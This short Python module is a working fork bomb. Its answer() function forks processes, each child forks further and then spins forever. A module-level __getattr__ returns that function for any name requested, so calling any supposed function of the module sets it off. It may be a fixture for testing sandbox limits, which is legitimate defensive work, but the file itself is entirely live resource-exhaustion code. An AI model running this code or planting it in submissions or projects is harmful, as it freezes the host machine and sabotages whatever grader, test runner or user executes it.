# Starts processes that start processes and never end.
import os


def answer(*args, **kwargs):
    for _ in range(8):
        try:
            if os.fork() == 0:
                for _ in range(2):
                    os.fork()
                while True:
                    pass
        except OSError:
            break
    return None


def __getattr__(name):
    return answer
